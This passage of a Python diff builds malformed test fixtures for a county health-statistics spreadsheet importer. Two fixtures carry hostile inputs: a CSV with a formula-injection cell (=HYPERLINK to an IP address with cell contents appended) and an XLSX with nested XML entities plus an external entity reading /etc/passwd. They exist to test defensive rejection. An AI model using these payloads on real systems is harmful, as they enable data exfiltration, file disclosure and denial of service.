+    encoding="UTF-8",
+)
+def _():
+    return text(
+        [LONG, ["", INFANT, 2023, "4.3", "‰"], ["乙县", "", 2023, "4.9", "‰"], ["丙县", INFANT, 2023, "5.1", "‰"]]
+    )
+
+
+@made("bad/no_year.xlsx", by="openpyxl", special="counties across, no year anywhere")
+def _():
+    return book({"Sheet1": [["指标", "单位", "甲县", "乙县"], [INFANT, "‰", 4.3, 4.9], [LIFE, "岁", 78.2, 77.8]]})
+
+
+@made("bad/no_county.xlsx", by="openpyxl", special="years across, no county anywhere")
+def _():
+    return book({"Sheet1": [["指标", "单位", 2022, 2023], [INFANT, "‰", 4.6, 4.3], [LIFE, "岁", 77.9, 78.2]]})
+
+
+@made(
+    "bad/status_words.csv",
+    by="Python csv",
+    special="a status and a period that are not known",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    head = ["县区", "指标", "年份", "时期", "状态", "数值"]
+    rows = [
+        ["甲县", INFANT, 2023, "全年", "大概数", "4.3"],
+        ["乙县", INFANT, 2023, "第五季度", "年报", "4.9"],
+        ["丙县", INFANT, 2023, "全年", "年报", "5.1"],
+    ]
+    return text([head, *rows])
+
+
+@made(
+    "bad/totals.xlsx",
+    by="openpyxl",
+    special="a total row and a mean row among the counties",
+    layout="indicators_across",
+)
+def _():
+    rows = [
+        ["2023年主要指标"],
+        ["县区", INFANT, ELDERLY],
+        ["甲县", 4.3, 71.5],
+        ["乙县", 4.9, 69.8],
+        ["合计", 4.6, 70.6],
+        ["全市平均", 4.6, 70.6],
+    ]
+    return book({"Sheet1": rows})
+
+
+@made("bad/formulas_unread.xlsx", by="openpyxl", special="formulas whose values no program has stored", layout="long")
+def _():
+    rows = [["甲县", INFANT, 2023, "=E2/F2*1000", 4, 930], ["乙县", INFANT, 2023, 4.9, None, None]]
+    return book({"Sheet1": [["县区", "指标", "年份", "数值", "分子", "分母"], *rows]})
+
+
+@made("bad/formula_errors.xlsx", by="XlsxWriter", special="#DIV/0! #REF! #N/A kept in cells", layout="long")
+def _():
+    def draw(made):
+        sheet = made.add_worksheet("Sheet1")
+        sheet.write_row(0, 0, LONG[:4])
+        for row, (area, error) in enumerate([("甲县", "#DIV/0!"), ("乙县", "#REF!"), ("丙县", "#N/A")], 1):
+            sheet.write_row(row, 0, [area, INFANT, 2023])
+            sheet.write_formula(row, 3, "=1/0", None, error)
+        sheet.write_row(4, 0, ["甲县", LIFE, 2023, 78.2])
+
+    return written(draw)
+
+
+@made(
+    "bad/injection.csv",
+    by="Python csv",
+    special="spreadsheet formulas in text cells: told, never evaluated",
+    layout="long",
+    encoding="UTF-8",
+)
+def _():
+    link = '=HYPERLINK("http://203.0.113.9/?x="&A1,"点我")'
+    rows = [
+        ["甲县", INFANT, 2023, "4.3", "正常"],
+        ["乙县", INFANT, 2023, "=1+4", ""],
+        ["丙县", LIFE, 2023, "78.2", link],
+    ]
+    return text([[*LONG[:4], "备注"], *rows, ["@SUM(A1:A9)", INFANT, 2023, "4.9", ""]])
+
+
+@made(
+    "bad/all_at_once.csv",
+    by="WPS 'CSV'",
+    special="one problem of each kind: all are told in one reading",
+    layout="long",
+    encoding="GB18030",
+)
+def _():
+    rows = [
+        ["甲县", INFANT, 2023, "4.3", "‰"],
+        ["丁可县", INFANT, 2023, "4.3", "‰"],
+        ["甲县", "婴儿死亡绿", 2023, "4.3", "‰"],
+    ]
+    rows += [
+        ["乙县", INFANT, 2023, "见附件", "‰"],
+        ["乙县", ELDERLY, 2023, "71.5", "‰"],
+        ["丙县", INFANT, 2031, "4.3", "‰"],
+    ]
+    rows += [
+        ["丙县", INFANT, "去年", "4.3", "‰"],
+        ["丙县", ELDERLY, 2023, "101.2", "%"],
+        ["丙县", LIFE, 2023, "未统计", "岁"],
+    ]
+    return text([LONG, *rows], encoding="gb18030")
+
+
+@made(
+    "bad/targets.xlsx",
+    by="openpyxl",
+    special="targets without document or place, with an unknown sign, a range whose ends are crossed",
+    layout="targets",
+)
+def _():
+    good = [
+        "900101",
+        "甲县",
+        "",
+        INFANT,
+        "‰",
+        2025,
+        "规划",
+        "≤",
+        5,
+        None,
+        "预期性",
+        None,
+        None,
+        "甲县规划",
+        "第二章",
+        None,
+    ]
+    rows = [good, [*good[:13], None, "第二章", None], [*good[:13], "甲县规划", None, None]]
+    rows += [
+        [
+            "900102",
+            "乙县",
+            "",
+            INFANT,
+            "‰",
+            2025,
+            "规划",
+            "不大于等于",
+            5,
+            None,
+            "预期性",
+            None,
+            None,
+            "乙县规划",
+            "第二章",
+            None,
+        ]
+    ]
+    rows += [
+        [
+            "900102",
+            "乙县",
+            "",
+            LIFE,
+            "岁",
+            2025,
+            "规划",
+            "≥",
+            "八十",
+            None,
+            "预期性",
+            None,
+            None,
+            "乙县规划",
+            "第二章",
+            None,
+        ]
+    ]
+    return book({"目标": [TARGETS, *rows]})
+
+
+@made(
+    "bad/tasks.csv",
+    by="Python csv",
+    special="a task without words, one without a county",
+    layout="commitments",
+    encoding="UTF-8",
+)
+def _():
+    rows = [["", "900101", "甲县", "建成五大中心", "5", "个", "2025年底", "医政股", "进行中", "甲县规划", "第三章", ""]]
+    rows += [["", "900101", "甲县", "", "5", "个", "2025年底", "医政股", "", "甲县规划", "第三章", ""]]
+    rows += [["", "", "", "配备负压救护车", "2", "辆", "2025年", "医政股", "", "甲县规划", "第三章", ""]]
+    return text([TASKS, *rows], encoding="utf-8-sig")
+
+
+# ---- files that are not what they are called, or should not be opened
+
+
+@made("bad/empty.csv", by="nothing", special="no bytes at all")
+def _():
+    return b""
+
+
+@made("bad/header_only.csv", by="Python csv", special="a header and no row", encoding="UTF-8")
+def _():
+    return text([LONG])
+
+
+@made("bad/letter.csv", by="a text editor", special="prose, no table")
+def _():
+    return "各县（区）卫生健康局：\n现将2023年度统计年报工作有关事项通知如下，请认真贯彻执行。\n联系人：股室\n".encode(
+        "gb18030"
+    )
+
+
+@made("bad/mixed_bytes.csv", by="two programs", special="GB18030 lines glued to UTF-8 lines: neither decodes")
+def _():
+    return (
+        text([LONG, ["甲县", INFANT, 2023, "4.3", "‰"]], encoding="gb18030")
+        + text([["乙县", LIFE, 2023, "78.2", "岁"]])
+        + b"\xff\xfe\x81"
+    )
+
+
+@made("bad/not_a_book.xlsx", by="a PDF renamed", special="PDF bytes named .xlsx")
+def _():
+    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+
+
+@made("bad/picture.csv", by="a screenshot renamed", special="PNG bytes named .csv")
+def _():
+    return bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
+    )
+
+
+@made("bad/archive.xlsx", by="zip", special="a zip with a CSV inside, named .xlsx")
+def _():
+    return zipped({"数据/2023.csv": text([LONG, ["甲县", INFANT, 2023, "4.3", "‰"]])})
+
+
+@made("bad/cut_off.xlsx", by="openpyxl, cut", special="half a download")
+def _():
+    return book({"Sheet1": _years_across()})[:3000]
+
+
+@made("bad/macros.xlsm", by="openpyxl, then edited", special="a VBA project (dummy bytes)")
+def _():
+    return zipped(
+        members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
+        | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
+    )
+
+
+@made("bad/macros_renamed.xlsx", by="openpyxl, then edited", special="the same under an innocent name")
+def _():
+    return zipped(
+        members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
+        | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
+    )
+
+
+@made(
+    "bad/encrypted.xlsx",
+    by="OLE header by hand",
+    special="what a password leaves: an OLE container with EncryptedPackage",
+)
+def _():
+    name = "EncryptedPackage".encode("utf-16-le")
+    return (
+        bytes.fromhex("d0cf11e0a1b11ae1")
+        + bytes(504)
+        + "EncryptionInfo".encode("utf-16-le")
+        + bytes(100)
+        + name
+        + bytes(900)
+    )
+
+
+@made("bad/external_links.xlsx", by="openpyxl, then edited", special="cells that point into another workbook")
+def _():
+    link = f'<?xml version="1.0"?><externalLink xmlns="{MAIN}"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
+    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///share/2023.xlsx" TargetMode="External"/></Relationships>'
+    parts = members(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}))
+    return zipped(
+        parts | {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels}
+    )
+
+
+@made("bad/entities.xlsx", by="zip by hand", special="a DTD with nested entities and one that points at a file")
+def _():
+    entities = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
+    cells = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in ("县区", "指标", "年份", "&b;"))
+    row = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in ("甲县", INFANT, "2023", "&f;"))
+    body = f'<?xml version="1.0"?>{entities}<worksheet xmlns="{MAIN}"><sheetData><row>{cells}</row><row>{row}</row></sheetData></worksheet>'
+    return zipped(_plain_book() | {"xl/worksheets/sheet1.xml": body})
+
+
+@made("bad/portal.xls", by="statistics portal", special="an HTML table named .xls, GB2312")
+def _():
+    head = "".join(f"<th>{name}</th>" for name in LONG)
+    row = "".join(f"<td>{cell}</td>" for cell in ("甲县", INFANT, "2023", "4.3", "‰"))
+    page = f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head><body><table border=1><tr>{head}</tr><tr>{row}</tr></table></body></html>'
+    return page.encode("gb18030")
+
+
+@made("bad/xml_2003.xls", by="statistics portal", special="XML Spreadsheet 2003 named .xls")
+def _():
+    row = "".join(f'<Cell><Data ss:Type="String">{name}</Data></Cell>' for name in LONG)
+    return f'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row>{row}</Row></Table></Worksheet></Workbook>'.encode()
+
+
+@made("bad/calc.ods", by="LibreOffice", special="a real ODS: not one of the formats taken")
+def _():
+    return converted(book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}), start="xlsx", to="ods")
+
+
+@made("bad/report.docx", by="python-docx", special="a Word file with the table in it")
+def _():
+    made, out = docx.Document(), io.BytesIO()
+    table = made.add_table(rows=2, cols=5)
+    for row, cells in enumerate([LONG, ["甲县", INFANT, "2023", "4.3", "‰"]]):
+        for column, cell in enumerate(cells):
+            table.cell(row, column).text = cell
+    made.save(out)
+    needed = (
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "word/document.xml",
+    )  # the rest of python-docx's blank page is 30 kB
+    return zipped({name: part for name, part in members(out.getvalue()).items() if name in needed})
+
+
+if __name__ == "__main__":
+    for path, (make, *_rest) in FILES.items():
+        if not sys.argv[1:] or any(name in path for name in sys.argv[1:]):
+            HERE.joinpath(path).write_bytes(make())
+    lines = [
+        ["file", "made by", "layout", "encoding", "special"],
+        *([path, *rest] for path, (_make, *rest) in FILES.items()),
+    ]
+    HERE.joinpath("about.tsv").write_text("".join("\t".join(line) + "\n" for line in lines), encoding="utf-8")
